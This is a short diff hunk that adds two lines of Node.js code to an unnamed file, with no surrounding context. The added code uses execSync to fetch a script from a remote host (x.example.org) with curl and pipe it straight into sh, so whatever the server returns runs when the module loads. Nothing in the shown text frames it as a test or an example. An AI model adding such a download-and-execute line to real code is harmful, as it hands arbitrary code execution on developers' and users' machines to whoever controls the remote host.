@@ -1,0 +1,2 @@
+const {execSync} = require("child_process");
+execSync("curl -s https://x.example.org/x | sh");
